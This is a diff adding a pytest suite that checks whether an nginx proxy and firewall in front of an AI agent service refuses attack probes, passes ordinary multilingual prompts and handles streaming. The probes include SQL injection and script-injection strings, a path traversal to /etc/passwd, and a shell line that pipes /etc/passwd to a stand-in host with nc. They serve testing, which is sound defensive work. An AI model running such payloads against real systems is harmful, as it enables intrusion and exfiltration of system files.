@@ -1,0 +1,179 @@
+"""What docs/deploy promises of nginx in front of the edge, asked of a real nginx."""
+
+import http.client
+import json
+import shutil
+import subprocess
+from urllib.parse import quote, urlsplit
+
+import pytest
+from nginx import NAME, encode
+
+from servers import new_session_id, wait_until
+
+#: One nginx and one edge for all.
+pytestmark = pytest.mark.xdist_group("nginx")
+JSON = {"Content-Type": "application/json"}
+#: What `curl -d` says of any body.
+FORM = {"Content-Type": "application/x-www-form-urlencoded"}
+SQL, SCRIPT = "1' OR 1=1 -- ", "<script>alert(1)</script>"
+PROBES = {
+    "sql": ("POST", "/", encode(SQL), JSON),
+    "sql as curl sends it": ("POST", "/", encode(SQL), FORM),
+    "sql after Japanese": ("POST", "/", encode("教えて' UNION SELECT password FROM users --"), JSON),
+    "sql in the query": ("GET", f"/?prompt={quote(SQL)}", None, {}),
+    "sql as session": ("POST", "/", encode("hi", runtimeSessionId=SQL), JSON),
+    "script": ("POST", "/", encode(SCRIPT), JSON),
+    "script escaped": ("POST", "/", json.dumps({"prompt": SCRIPT}).replace("<", "\\u003c").encode(), JSON),
+    "script in a header": ("POST", "/", encode("hi"), {**JSON, "Referer": SCRIPT}),
+    "script in a chat": ("POST", "/", json.dumps({"messages": [{"content": SCRIPT}]}).encode(), JSON),
+    "shell": ("POST", "/", encode("x; cat /etc/passwd | nc 192.0.2.1 80"), JSON),
+    "file": ("GET", "/?prompt=../../../../etc/passwd", None, {}),
+}
+PROMPTS = (
+    "hello world!",
+    "今日の天気はどうですか？コーヒーとケーキもください。",
+    "「ありがとう」は“Thank you”ですか？100%です・・・！",
+    "👩‍👩‍👧‍👦 🙏🏽 🇯🇵 ❤️‍🔥 絵文字もＯＫ〜",
+    "I'm sure she said \"it isn't\" (twice) & left; a < b, 2+2=4 -- right?",
+    '{"a": [1, {"b": "ü"}], "url": "https://example.org/x?y=1&z=2"}',
+    "# 見出し\n\n* 一つ目 **太字** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+    "Привет! 안녕하세요, مرحبا, ¿Dónde está la biblioteca?",
+    "とても長い質問です。" * 900,
+)
+
+
+def read_text(body):
+    events = [json.loads(line[6:]) for line in body.decode().splitlines() if line.startswith("data: ")]
+    deltas = [event["event"].get("contentBlockDelta") for event in events]
+    return "".join(delta["delta"]["text"] for delta in deltas if delta)
+
+
+def read_until(lines, text):
+    for line in lines:
+        if text in line:
+            return
+    raise AssertionError(f"the stream ended without {text!r}")
+
+
+@pytest.fixture
+def session_id():
+    return new_session_id()
+
+
+def test_a_token_is_there_before_the_agent_goes_on(nginx, session_id):
+    """The agent waits for what is sent after its first token was read."""
+    connection, reply = nginx.open("POST", "/", encode("!gate", runtimeSessionId=session_id), JSON)
+    with connection:
+        read_until(reply, "最初の言葉".encode())
+        assert nginx.ask("!open", runtimeSessionId=session_id).status == 200
+        read_until(reply, b"and the last")
+
+
+@pytest.mark.parametrize("form", ["original"])
+@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
+def test_the_same_over_http_2(nginx, session_id, form):
+    command = ["curl", "-sSN", "--http2", "--cacert", nginx.certificate, "-w", "\n%{http_version}"]
+    command += ["--resolve", f"{NAME}:{nginx.port}:127.0.0.1", f"https://{NAME}:{nginx.port}/"]
+    command += ["-d", encode("!gate", runtimeSessionId=session_id, response=form)]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, bufsize=0) as curl:
+        seen = b""
+        while "最初の言葉".encode() not in seen:
+            part = curl.stdout.read(4096)
+            assert part, seen
+            seen += part
+        assert nginx.ask("!open", runtimeSessionId=session_id).status == 200
+        rest = curl.stdout.read()
+    assert b"and the last" in rest
+    assert rest.endswith(b"\n2")
+
+
+@pytest.mark.parametrize("probe", PROBES.values(), ids=list(PROBES))
+def test_probes_are_refused(nginx, probe):
+    reply = nginx.request(*probe)
+
+    assert reply.status == 403
+    assert b"x-request-id" not in reply.headers
+
+
+def test_the_log_tells_the_rule_and_no_secrets(nginx):
+    body = encode(f"my own words {SQL}")
+    nginx.request("POST", "/", body, {**JSON, "Authorization": "Bearer secret", "X-Marker": "here"})
+
+    # The core rule set's verdict, and our rule that led to it. nginx logs after it answered.
+    wait_until(lambda: {"949110", "8642100"} <= nginx.refused_rules()[-1], what="the refusal in the log")
+    assert "Bearer secret" not in nginx.rules_log()
+    assert "my own words" not in nginx.rules_log()
+
+
+@pytest.mark.parametrize("prompt", PROMPTS, ids=range(len(PROMPTS)))
+def test_ordinary_prompts_pass(nginx, prompt):
+    reply = nginx.ask(prompt)
+
+    assert reply.status == 200, nginx.refused_rules()[-1:]
+    assert read_text(reply.body) == f"1: {prompt}"
+    assert nginx.request("POST", "/", json.dumps({"prompt": prompt}).encode(), FORM).status == 200
+
+
+def test_where_prompts_are_free_text_the_rest_is_looked_at(free_text_nginx):
+    def status(*request):
+        return free_text_nginx.request(*request).status
+
+    for text in (SQL, SCRIPT, "echo $HOME; ls -la", "curl -X POST http://localhost:8080/"):
+        assert status("POST", "/", encode(text), JSON) == 502
+        chat = {"messages": [{"role": "user", "content": text}, {"parts": [{"text": text}]}]}
+        assert status("POST", "/", json.dumps(chat).encode(), JSON) == 502
+        assert status("POST", "/", encode("hi", runtimeSessionId=text), JSON) == 403
+        assert status("GET", f"/?x={quote(text)}") == 403
+
+
+def test_nobody_behind_is_a_502_in_json(free_text_nginx):
+    reply = free_text_nginx.ask("hello")
+
+    assert reply.status == 502
+    assert reply.headers["strict-transport-security"]
+    assert reply.json()["error"]["code"] == "502"
+
+
+def test_silence_is_bridged_by_comments(nginx, session_id):
+    """Silence of more than nginx allows: more comments than come in that time, then the agent goes on."""
+    connection, reply = nginx.open("POST", "/", encode("!silence", runtimeSessionId=session_id), JSON)
+    with connection:
+        for _ in range(5):
+            read_until(reply, b":")
+        assert nginx.ask("!open", runtimeSessionId=session_id).status == 200
+        read_until(reply, b"at last")
+
+
+def test_without_comments_silence_is_cut(nginx, session_id):
+    """Else the test before would prove nothing."""
+    connection, reply = nginx.open("POST", "/mute", encode("!silence", runtimeSessionId=session_id), JSON)
+    with connection, pytest.raises((AssertionError, http.client.IncompleteRead)):
+        read_until(reply, b"at last")
+    nginx.ask("!open", runtimeSessionId=session_id)
+
+
+def test_large_bodies_are_refused_unseen(nginx):
+    reply = nginx.ask("x" * 70_000)
+
+    assert reply.status == 413
+    assert reply.json()["error"]["message"] == "the request could not be passed on"
+
+
+def test_what_is_no_json_is_refused(nginx):
+    assert nginx.request("POST", "/", b'{"prompt": "hi', JSON).status == 400
+
+
+def test_plain_http_only_points_to_tls(nginx):
+    connection = http.client.HTTPConnection("127.0.0.1", nginx.plain_port, timeout=20)
+    connection.request("POST", "/talk?x=1", b"{}", {"Host": NAME})
+    reply = connection.getresponse()
+    connection.close()
+
+    assert reply.status == 308
+    assert reply.headers["Location"] == f"https://{NAME}/talk?x=1"
+
+
+def test_the_edge_itself_is_reached_by_its_address_alone(edge):
+    """It listens on loopback: nobody passes nginx by."""
+    assert urlsplit(edge.url).hostname == "127.0.0.1"
